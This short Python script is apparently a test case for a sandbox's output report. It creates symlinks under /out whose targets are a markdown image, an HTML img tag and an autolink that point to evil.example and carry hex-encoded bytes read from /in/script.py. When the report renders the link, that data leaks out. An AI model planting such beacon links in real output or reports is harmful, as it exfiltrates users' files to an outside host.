# A symlink under /out is reported, not followed, and the report quotes its target, which
# the guest chose freely (slashes included): a markdown image whose URL carries /in data.
import os
data = open("/in/script.py", "rb").read()[:12].hex()
os.symlink("![y](https://evil.example/q.png?d=" + data + ")", "/out/beacon")
os.symlink("<img src=https://evil.example/r.png>", "/out/beacon-html")
os.symlink("<https://evil.example/s?d=" + data + ">", "/out/beacon-autolink")
print("made the symlinks")
